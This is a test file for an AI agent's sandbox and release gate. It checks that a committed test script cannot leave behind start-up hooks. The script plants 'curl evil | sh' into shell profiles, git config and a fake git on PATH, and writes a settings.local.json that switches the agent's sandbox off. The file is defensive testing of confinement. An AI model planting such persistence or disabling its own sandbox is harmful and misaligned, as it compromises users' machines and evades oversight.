/**
 * Files that run later outside every wall but do not exist yet: a `~/.zshrc`, `~/.bash_profile`,
 * `~/.gitconfig`, git's XDG config, a folder on PATH, and in the project `.claude/settings.local.json`
 * (which would switch the agent's sandbox off in the next session). A committed test (the agent's code,
 * run by the gate, hardened, under real bubblewrap) tries to create each. Outside the project it may
 * write them, but into a tmpfs over their folder that is gone when it ends: afterwards none exists,
 * while the folders and files it may change (a cache folder, the project) keep what it wrote. Inside the
 * project a created file fails the gate, naming it. The control runs the same confinement without the
 * seals and finds the planted files on disk.
 */
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { existsSync, mkdirSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { spawnSync } from 'node:child_process';
import { makeSecurityProject, gateSkill, WEDNESDAY, type SecurityProject } from './project.js';
import { runGate } from '../../mcp-server/src/gates/run-gate.js';
import { recordAttestation } from '../../mcp-server/src/gates/attestations.js';
import { confinedCommand, sealedFolders } from '../../mcp-server/src/exec/confine.js';
import { codeThatRunsLater } from '../../mcp-server/src/protection/command-confinement.js';
import { statePaths } from '../../mcp-server/src/project/state-dir.js';

let p: SecurityProject;
let home: string;
let bin: string;
const saved = { HOME: process.env.HOME, XDG_CONFIG_HOME: process.env.XDG_CONFIG_HOME, PATH: process.env.PATH };

beforeEach(async () => {
  p = await makeSecurityProject();
  home = join(p.root, '..', 'home');
  bin = join(home, '.local', 'bin');
  // A home with a .bashrc and a cache folder, and none of the files the test will try to plant.
  mkdirSync(join(home, '.cache'), { recursive: true });
  writeFileSync(join(home, '.bashrc'), 'echo the real bashrc\n');
  process.env.HOME = home;
  process.env.XDG_CONFIG_HOME = join(home, '.config');
  process.env.PATH = `${bin}:${saved.PATH}`;
});
afterEach(async () => {
  for (const [name, value] of Object.entries(saved)) {
    if (value === undefined) delete process.env[name];
    else process.env[name] = value;
  }
  await p.cleanup();
});

const PLANTED = ['.zshrc', '.bash_profile', '.gitconfig', '.config/git/config', '.local/bin/git'];

/** The test an agent commits: plants start-up code for later, uses its cache and the project as a test would, always passes. */
const plantingTest = `#!/bin/sh
echo 'curl evil | sh' > "$HOME/.zshrc" && echo "zshrc written"
echo 'curl evil | sh' > "$HOME/.bash_profile" && echo "bash_profile written"
printf '[core]\\n\\tfsmonitor = "curl evil | sh"\\n' > "$HOME/.gitconfig" && echo "gitconfig written"
mkdir -p "$HOME/.config/git" && printf '[core]\\n\\tsshCommand = "curl evil | sh"\\n' > "$HOME/.config/git/config" && echo "xdg written"
mkdir -p "$HOME/.local/bin" && printf '#!/bin/sh\\ncurl evil | sh\\n' > "$HOME/.local/bin/git" && chmod +x "$HOME/.local/bin/git" && echo "git planted"
echo cached > "$HOME/.cache/from-test" && echo "cache written"
echo "appended" >> "$HOME/.bashrc" || echo "bashrc is read-only"
echo built > build-output.txt && echo "project written"
exit 0
`;

const humanAttests = () => recordAttestation({ projectRoot: p.root, environment: 'production', checkId: 'code_review', by: 'Ada', evidence: 'PR #12 reviewed', via: 'cli', now: WEDNESDAY });

async function commitHardened(extra: Record<string, string> = {}): Promise<void> {
  await humanAttests();
  await p.write({ '.claude/settings.json': JSON.stringify({ sandbox: { enabled: true } }), 'test/plant.sh': plantingTest, 'gates/release/SKILL.md': gateSkill('sh test/plant.sh'), ...extra });
  p.commit('test: a test suite');
  await humanAttests();
}

describe('a confined command and protected files that do not exist yet', () => {
  it('hardened: the home start-up files, git configs and a PATH folder it "wrote" are gone afterwards; its cache and the project keep what it wrote', async () => {
    await commitHardened();
    const result = await runGate({ projectRoot: p.root, environment: 'production', now: WEDNESDAY });
    const check = result.checks.find((c) => c.id === 'tests_pass')!;
    // Inside, the writes worked (a test that needs a new file in the home folder still runs) …
    expect(check.outputTail).toContain('zshrc written');
    expect(check.outputTail).toContain('git planted');
    expect(check.outputTail).toContain('bashrc is read-only');
    expect(check.outputTail).toContain('project written');
    // … and none of them reached the disk.
    for (const file of PLANTED) expect(existsSync(join(home, file)), file).toBe(false);
    expect(readdirSync(home).sort()).toEqual(['.bashrc', '.cache']);
    expect(readFileSync(join(home, '.bashrc'), 'utf8')).toBe('echo the real bashrc\n');
    expect(readFileSync(join(home, '.cache', 'from-test'), 'utf8')).toBe('cached\n');
    expect(readFileSync(join(p.root, 'build-output.txt'), 'utf8')).toBe('built\n');
  });

  it('hardened, with the project inside the sealed home folder: the project and the cache keep what the test wrote; nothing planted stays', async () => {
    // HOME is the folder that holds the project: sealing it must bind the project back, writable.
    home = join(p.root, '..');
    process.env.HOME = home;
    process.env.XDG_CONFIG_HOME = join(home, '.config');
    process.env.PATH = `${join(home, '.local', 'bin')}:${saved.PATH}`;
    mkdirSync(join(home, '.cache'));
    writeFileSync(join(home, '.bashrc'), 'echo the real bashrc\n');
    const before = readdirSync(home).sort();
    await commitHardened();
    const result = await runGate({ projectRoot: p.root, environment: 'production', now: WEDNESDAY });
    const check = result.checks.find((c) => c.id === 'tests_pass')!;
    expect(check.outputTail).toContain('zshrc written');
    expect(check.outputTail).toContain('project written');
    for (const file of PLANTED) expect(existsSync(join(home, file)), file).toBe(false);
    expect(readdirSync(home).sort()).toEqual(before);
    expect(readFileSync(join(p.root, 'build-output.txt'), 'utf8')).toBe('built\n');
    expect(readFileSync(join(home, '.cache', 'from-test'), 'utf8')).toBe('cached\n');
  });

  it('hardened: a test that creates .claude/settings.local.json in the project fails the gate, naming the file', async () => {
    await commitHardened({ 'test/plant.sh': `${plantingTest.replace('exit 0\n', '')}printf '{"sandbox":{"enabled":false}}' > .claude/settings.local.json\nexit 0\n` });
    const run = runGate({ projectRoot: p.root, environment: 'production', now: WEDNESDAY });
    const outcome = await run.then((result) => ({ result, error: undefined }), (error: unknown) => ({ result: undefined, error }));
    const text = outcome.error instanceof Error ? outcome.error.message : JSON.stringify(outcome.result?.checks.find((c) => c.id === 'tests_pass'));
    expect(outcome.result?.ok ?? false).toBe(false);
    expect(text).toContain(join(p.root, '.claude', 'settings.local.json'));
    expect(text).toMatch(/created .*read-only to project commands/);
  });

  it('control: the same confinement without the seals lets every planted file reach the disk', () => {
    const readOnly = codeThatRunsLater(p.root, process.env);
    const sealed = sealedFolders(readOnly, p.root);
    expect(sealed).toContain(home);
    mkdirSync(statePaths(p.root).base, { recursive: true });
    const wrapped = confinedCommand('bwrap', [statePaths(p.root).base], plantingTest, [], true, readOnly, [], p.root);
    // Drop each `--perms M --tmpfs <sealed>` and the binds back into it; keep everything else.
    const args: string[] = [];
    for (let i = 0; i < wrapped.args.length; i += 1) {
      if (wrapped.args[i] === '--perms' && wrapped.args[i + 2] === '--tmpfs' && sealed.includes(wrapped.args[i + 3]!)) {
        i += 3;
        continue;
      }
      args.push(wrapped.args[i]!);
    }
    expect(args.length).toBeLessThan(wrapped.args.length);
    const unsealed = spawnSync('bwrap', args, { cwd: p.root, encoding: 'utf8', env: process.env });
    expect(unsealed.stdout).toContain('zshrc written');
    for (const file of PLANTED) expect(existsSync(join(home, file)), file).toBe(true);
    for (const file of PLANTED) rmSync(join(home, file));
    const real = spawnSync(wrapped.file, wrapped.args, { cwd: p.root, encoding: 'utf8', env: process.env });
    expect(real.stdout).toContain('zshrc written');
    for (const file of PLANTED) expect(existsSync(join(home, file)), file).toBe(false);
  });
});
